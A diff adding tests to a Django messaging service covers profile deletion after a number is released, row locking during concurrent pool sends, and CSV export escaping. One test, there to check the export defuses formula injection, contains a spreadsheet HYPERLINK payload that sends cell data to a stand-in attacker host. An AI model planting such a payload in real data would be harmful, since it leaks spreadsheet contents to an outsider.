@@ -74,6 +74,17 @@ def test_it_refuses_to_delete_a_profile_numbers_send_with(alice, alice_api):
     assert _error(response)["code"] == "profile_in_use"
 
 
+def test_a_profile_whose_only_number_was_released_can_be_deleted(alice, alice_api):
+    from telephony.services.numbers import number_release
+
+    sender = make_sender(alice.account)
+    number_release(account=alice.account, actor=None, number=sender.phone_number)
+    profile_id = sender.profile.public_id
+    assert alice_api.get(f"/api/v1/messaging-profiles/{profile_id}").json()["numbers"] == []
+    # The released number can no longer be taken out of the profile (it is not the account's): it must not block.
+    assert alice_api.delete(f"/api/v1/messaging-profiles/{profile_id}").status_code == 204
+
+
 def test_it_enables_and_disables_sms_on_a_number(alice, alice_api):
     profile = make_profile(alice.account)
     campaign = make_campaign(alice.account)
@@ -228,6 +239,47 @@ def test_a_pool_skips_a_sender_whose_messages_recently_failed(alice, alice_api, 
         for i in range(4)
     }
     assert used == {good.number}
+
+
+@pytest.mark.postgres
+def test_a_pool_send_does_not_hold_the_senders_a_concurrent_send_could_use(alice, transactional_db):
+    import threading
+
+    from django.db import connection, transaction
+
+    profile = make_profile(alice.account, sticky_sender=False)
+    first = make_sender(alice.account, profile, toll_free=True)
+    second = make_sender(alice.account, profile, toll_free=True)
+    # The second is a little busier, so both sends rank the first ahead of it.
+    MessagingNumber.objects.filter(pk=second.pk).update(next_slot_at=timezone.now() + timedelta(seconds=30))
+    holding, done = threading.Event(), threading.Event()
+    held = {}
+
+    def send_and_hold():
+        try:
+            with transaction.atomic():
+                held["from"] = services.message_send(
+                    account=alice.account, actor=None, profile=profile, to=OFF_NET, text="a"
+                ).from_number
+                holding.set()
+                done.wait(10)
+        finally:
+            holding.set()
+            connection.close()
+
+    thread = threading.Thread(target=send_and_hold)
+    thread.start()
+    try:
+        assert holding.wait(10)
+        with transaction.atomic():
+            with connection.cursor() as cursor:
+                cursor.execute("SET LOCAL lock_timeout = '3s'")  # waiting for the held sender fails, not hangs
+            message = services.message_send(account=alice.account, actor=None, profile=profile, to=OFF_NET, text="b")
+    finally:
+        done.set()
+        thread.join(10)
+    assert held["from"] == first.number
+    assert message.from_number == second.number
 
 
 def test_a_pool_that_is_off_refuses_profile_sends(alice, alice_api):
@@ -426,6 +478,20 @@ def test_the_csv_export_streams_every_matching_message(alice, alice_api):
     lines = b"".join(response.streaming_content).decode().splitlines()
     assert lines[0].startswith("id,created_at,direction")
     assert len(lines) == 2 and '"with ""quotes"", and comma"' in lines[1]
+
+
+def test_the_csv_export_defuses_a_texted_spreadsheet_formula(alice, alice_api):
+    import csv
+    import io
+
+    sender = make_sender(alice.account, toll_free=True)
+    # Anyone can text the account's numbers: a text read as a formula by the spreadsheet that opens the export
+    # could fetch URLs or run commands there.
+    _inbound(alice_api, sender.number, '=HYPERLINK("http://attacker.example/?d="&A1,"Click")')
+    response = alice_api.get("/api/v1/messages/export")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert [row["text"] for row in rows] == ['\'=HYPERLINK("http://attacker.example/?d="&A1,"Click")']
+    assert rows[0]["from"] == OFF_NET  # numbers are left as they are
 
 
 def test_another_accounts_message_is_not_found(alice, charlie_api):
